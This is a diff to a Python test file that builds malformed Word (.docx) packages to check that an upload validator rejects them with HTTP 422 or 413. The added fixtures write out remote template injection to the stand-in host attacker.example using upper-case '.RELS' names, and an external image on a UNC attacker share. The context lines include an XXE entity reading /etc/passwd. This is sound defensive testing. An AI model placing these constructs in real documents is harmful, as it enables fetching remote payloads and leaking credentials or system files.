@@ -203,6 +203,28 @@ def _external(parts: dict[str, bytes]) -> None:
         b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
 
 
+def _upper_case_rels(parts: dict[str, bytes]) -> None:
+    """The attack: an external attachedTemplate in a part named ".RELS"."""
+    parts["word/_rels/settings.xml.RELS"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://attacker.example/t.dotm" TargetMode="EXTERNAL"/></Relationships>')
+
+
+def _upper_case_external_image(parts: dict[str, bytes]) -> None:
+    parts["word/_rels/document.xml.rels"] = parts.pop("word/_rels/document.xml.rels").replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
+        b'Target="\\\\attacker\\share\\x.png" TargetMode="External"/></Relationships>')
+    parts["WORD/_RELS/DOCUMENT.XML.RELS"] = parts.pop("word/_rels/document.xml.rels")
+
+
+def _attached_template_setting(parts: dict[str, bytes]) -> None:
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>')
+
+
 def _entity(parts: dict[str, bytes]) -> None:
     parts["word/document.xml"] = parts["word/document.xml"].replace(
         b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
@@ -223,6 +245,9 @@ def _no_body(parts: dict[str, bytes]) -> None:
 @pytest.mark.parametrize("name, change, status, words", [
     ("macro", _macro, 422, "宏"),
     ("external", _external, 422, "外部链接"),
+    ("upper-case-rels", _upper_case_rels, 422, "attachedTemplate"),
+    ("upper-case-external", _upper_case_external_image, 422, "外部链接"),
+    ("attached-template-setting", _attached_template_setting, 422, "attachedTemplate"),
     ("entity", _entity, 422, "DTD"),
     ("path", _path_trick, 422, "路径"),
     ("bomb", _bomb, 413, "压缩炸弹"),
